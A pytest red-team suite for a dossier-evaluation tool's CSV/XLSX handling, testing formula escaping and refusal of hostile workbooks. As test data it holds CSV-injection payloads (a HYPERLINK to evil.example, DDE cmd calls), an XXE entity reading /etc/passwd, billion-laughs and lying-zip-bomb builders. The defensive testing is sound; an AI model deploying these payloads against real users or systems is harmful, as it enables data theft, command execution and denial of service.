"""Red team of issue 11 on the spreadsheet surface (sheets/): what a dossier's author puts in a CSV or XLSX.

The annotated reports (`evaluate -o csv=… -o xlsx=…`) are opened in Excel or LibreOffice by someone else:
no cell of them may be a formula (CSV injection). Reading a workbook is bounded like any input: links,
pipes and devices are refused, a zip bomb is refused unread, and the report stays about as large as
what was given. The holes the red team pinned as strict xfails are fixed in sheets/ (each test now passes).
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from proa_policy.cli import main
from proa_policy.limits import MAX_ISSUES
from proa_policy.report import escape

from .sheetdata import write_csv, write_xlsx

#: What starts a formula or a DDE call in a spreadsheet program (OWASP "CSV injection"), with the payloads.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A2;"clic")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3",
            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1", "  =1+1", "\u00a0=1", "\uff1d1+1"]


def formula_like(cell: str) -> bool:
    return cell.lstrip(" \u00a0\u3000")[:1] in TRIGGERS or cell[:1] in TRIGGERS


def evaluate(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["evaluate", *args, "--format", "json"])
    return result.exit_code, result.output


def csv_cells(path: Path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- the escaping function ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value", PAYLOADS)
def test_spreadsheet_escape_neutralises_every_formula_start(value):
    shown = escape.spreadsheet(value)
    assert shown == "'" + value


@pytest.mark.parametrize("value", ["Préparateur de commandes", "a=b", "RNCP1234", "", "x-1", "50 %"])
def test_spreadsheet_escape_leaves_plain_text_as_it_is(value):
    assert escape.spreadsheet(value) == value


@given(st.text(max_size=40))
def test_no_string_escaped_for_a_spreadsheet_starts_a_formula(value):
    shown = escape.spreadsheet(value)
    assert not formula_like(shown) or shown.startswith("'")
    assert shown in (value, "'" + value)


# --- the annotated CSV and XLSX ----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_no_header_of_the_annotated_csv_is_a_formula(tmp_path, payload):
    sheet = write_csv(tmp_path / "in.csv", ["id", payload], [["X-1", "v"]])
    dossier = tmp_path / "d.json"
    dossier.write_text(json.dumps({"id": "X-2", payload: "v"}), encoding="utf-8")
    out = tmp_path / "out.csv"
    code, _ = evaluate(str(sheet), str(dossier), "-o", f"csv={out}")
    assert code == 2  # both invalid: an unknown header, an unknown field
    header = csv_cells(out)[0]
    assert [c for c in header if formula_like(c) and not c.startswith("'")] == []
    assert "'" + payload in header


@pytest.mark.parametrize("payload", PAYLOADS)  # also formulas once a program trims spaces or folds widths
def test_no_value_of_the_annotated_csv_is_a_formula(tmp_path, payload):
    sheet = write_csv(tmp_path / "in.csv", ["id", "employer.kind"], [[payload, payload]])
    out = tmp_path / "out.csv"
    evaluate(str(sheet), "-o", f"csv={out}")
    rows = csv_cells(out)[1:]
    assert rows and all(not formula_like(c) or c.startswith("'") for row in rows for c in row)


def _inline(ref: str, value: str) -> str:
    text = escape.xml(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_the_annotated_xlsx_is_a_formula(tmp_path, payload):
    from openpyxl import load_workbook

    sheet = _workbook(tmp_path, "in.xlsx", _inline("A2", payload) + _inline("B2", payload))
    out = tmp_path / "out.xlsx"
    evaluate(str(sheet), "-o", f"xlsx={out}")
    with zipfile.ZipFile(out) as archive:
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())
    cells = [c for row in load_workbook(out)["Dossiers"].iter_rows() for c in row]
    assert escape.xml(payload) in [c.value for c in cells]  # a CR shown as `\\r`: XML reads it as LF
    assert {c.data_type for c in cells if c.value} <= {"s", "n"}


def test_a_formula_header_is_named_not_printed_as_an_object(tmp_path):
    sheet = write_xlsx(tmp_path / "in.xlsx", ["id", "=HYPERLINK(1)"], [["X-1", "v"]])  # a real formula
    out = tmp_path / "out.csv"
    evaluate(str(sheet), "-o", f"csv={out}")
    rows = csv_cells(out)
    assert not any("<object object" in cell for row in rows for cell in row)
    assert "[B1]" in rows[0] and "Dossiers!B1 : formule sans valeur calculée" in rows[1][-2]


# --- what a folder or the command line holds ---------------------------------------------------------------

def test_links_pipes_and_devices_named_as_sheets_are_refused(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    os.mkfifo(folder / "pipe.csv")
    (folder / "passwd.csv").symlink_to("/etc/passwd")
    (folder / "zero.xlsx").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "named.xlsx")
    (tmp_path / "zero.csv").symlink_to("/dev/zero")
    code, output = evaluate(str(folder), str(tmp_path / "named.xlsx"), str(tmp_path / "zero.csv"))
    answers = {Path(d["source"]).name: d["errors"][0]["message"] for d in json.loads(output)}
    assert code == 2
    assert answers == {"passwd.csv": "lien symbolique hors du répertoire : non suivi",
                       "zero.xlsx": "lien symbolique hors du répertoire : non suivi",
                       "pipe.csv": "pas un fichier ordinaire (tube nommé, socket ou périphérique)",
                       "named.xlsx": "pas un fichier ordinaire (tube nommé, socket ou périphérique)",
                       "zero.csv": "pas un fichier ordinaire (tube nommé, socket ou périphérique)"}
    assert "root:" not in output


def _workbook(tmp_path: Path, name: str, cells: str, *, declared: int | None = None,
              prolog: bytes = b"") -> Path:
    """A one-sheet workbook whose row 2 is `cells` (raw XML); `declared`: the size its directory claims;
    `prolog`: what comes before the sheet's root element (a DOCTYPE)."""
    base = write_xlsx(tmp_path / "base.xlsx", ["id"], [["x"]])
    target = tmp_path / name
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("sheet1.xml"):
                start = data.index(b'<row r="2"')
                data = data[:start] + b'<row r="2">' + cells.encode() + b"</row>" + \
                    data[data.index(b"</row>", start) + 6:]
                data = prolog + data[data.index(b"<worksheet"):] if prolog else data
            out.writestr(info, data)
    if declared is not None:  # rewrite the sheet's sizes in the central directory: a lying zip bomb
        raw = bytearray(target.read_bytes())
        name = next(n for n in zipfile.ZipFile(target).namelist() if n.endswith("sheet1.xml")).encode()
        entry = raw.index(name, raw.index(b"PK\x01\x02")) - 46  # the central directory's record
        raw[entry + 24:entry + 28] = declared.to_bytes(4, "little")  # its uncompressed size
        target.write_bytes(bytes(raw))
    return target


def test_a_zip_whose_directory_lies_about_sizes_is_unreadable_not_a_bomb(tmp_path):
    cells = '<c r="A2" t="inlineStr"><is><t>' + "A" * 2_000_000 + "</t></is></c>"
    bomb = _workbook(tmp_path, "lying.xlsx", cells, declared=1000)
    code, output = evaluate(str(bomb))
    decision, = json.loads(output)
    assert code == 2 and decision["verdict"] == "invalid"
    assert decision["errors"][0]["message"].startswith("classeur XLSX illisible")


def test_a_cell_longer_than_excel_can_hold_is_refused_and_the_report_stays_small(tmp_path):
    cells = '<c r="A2" t="inlineStr"><is><t>' + "A" * 20_000_000 + "</t></is></c>"
    bomb = _workbook(tmp_path, "one-cell.xlsx", cells)
    assert bomb.stat().st_size < 100_000
    out = tmp_path / "out.csv"
    code, output = evaluate(str(bomb), "-o", f"csv={out}")
    decision, = json.loads(output)
    assert code == 2 and decision["verdict"] == "invalid"
    assert any("Dossiers!A2" in e["message"] for e in decision["errors"])
    assert len(output) < 100_000 and out.stat().st_size < 100_000


def test_header_problems_are_bounded_per_row(tmp_path):
    headers = ["id", *(f"h{i}" for i in range(2 * MAX_ISSUES))]
    sheet = write_csv(tmp_path / "wide.csv", headers, [["X-1"], ["X-2"], ["X-3"]])
    code, output = evaluate(str(sheet))
    decisions = json.loads(output)
    assert code == 2 and len(decisions) == 3
    assert all(len(d["errors"]) <= MAX_ISSUES + 1 for d in decisions)
    assert all("autre(s) problème(s) non listé(s)" in d["errors"][-1]["message"] for d in decisions)


def test_only_a_bounded_number_of_unknown_headers_is_matched_for_a_hint(tmp_path, monkeypatch):
    from proa_policy.limits import MAX_HINTS
    from proa_policy.dossier.columns import Headers

    asked = []
    suggest = Headers.suggest
    monkeypatch.setattr(Headers, "suggest", lambda self, text: asked.append(text) or suggest(self, text))
    sheet = write_csv(tmp_path / "wide.csv", ["id", *(f"employer.kindd{i}" for i in range(500))], [["X-1"]])
    code, output = evaluate(str(sheet))
    errors = json.loads(output)[0]["errors"]
    assert code == 2 and len(asked) == MAX_HINTS
    assert sum("vouliez-vous dire" in e["message"] for e in errors) == MAX_HINTS


def test_template_to_a_full_device_exits_2_naming_the_path(tmp_path):
    link = tmp_path / "full.xlsx"
    link.symlink_to("/dev/full")
    result = CliRunner().invoke(main, ["template", "-o", str(link)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2 and str(link) in result.output


def _name_not_utf8(tmp_path: Path) -> Path:
    """A workbook whose first member's name says « UTF-8 » (flag bit 11) but is not: found by fuzz_sheet."""
    base = write_xlsx(tmp_path / "base.xlsx", ["id"], [["x"]])
    raw = bytearray(base.read_bytes())
    central = raw.index(b"PK\x01\x02")
    name_length = int.from_bytes(raw[central + 28:central + 30], "little")
    flags = int.from_bytes(raw[central + 8:central + 10], "little") | 0x800  # bit 11: the name is UTF-8
    raw[central + 8:central + 10] = flags.to_bytes(2, "little")
    raw[central + 46:central + 46 + name_length] = b"\xf6" * name_length
    target = tmp_path / "name.xlsx"
    target.write_bytes(bytes(raw))
    return target


def test_a_workbook_with_a_member_name_not_in_utf8_is_one_invalid_answer(tmp_path):
    from .conftest import ROOT

    folder = tmp_path / "d"
    folder.mkdir()
    _name_not_utf8(tmp_path).rename(folder / "name.xlsx")
    (folder / "good.yaml").write_bytes((ROOT / "examples" / "dossiers" / "eligible-clea.yaml").read_bytes())
    result = CliRunner().invoke(main, ["evaluate", str(folder), "--format", "json"])
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    code, output = result.exit_code, result.output
    answers = {Path(d["source"]).name.split(":")[0]: d for d in json.loads(output)}
    assert code == 2 and set(answers) == {"name.xlsx", "good.yaml"}
    assert answers["good.yaml"]["verdict"] == "eligible"
    assert answers["name.xlsx"]["errors"][0]["message"].startswith("fichier XLSX illisible")


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "' + b"A" * 100 + b'">'
          + b"".join(b'<!ENTITY b%d "%s">' % (i, (b"&b%d;" % (i - 1) if i else b"&a;") * 10)
                     for i in range(9))
          + b"]>")


@pytest.mark.parametrize("prolog, entity", [
    (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    (LAUGHS, "&b8;"),
], ids=["external-entity", "billion-laughs"])
def test_entities_in_a_sheet_read_no_file_and_expand_no_bomb(tmp_path, prolog, entity):
    cells = f'<c r="A2" t="inlineStr"><is><t>{entity}</t></is></c>'
    book = _workbook(tmp_path, "entities.xlsx", cells, prolog=prolog)
    out = tmp_path / "out.csv"
    code, output = evaluate(str(book), "-o", f"csv={out}")
    decision, = json.loads(output)
    assert code == 2 and decision["errors"][0]["message"] == "classeur XLSX illisible : ParseError"
    assert "root:" not in output and "root:" not in out.read_text(encoding="utf-8-sig")
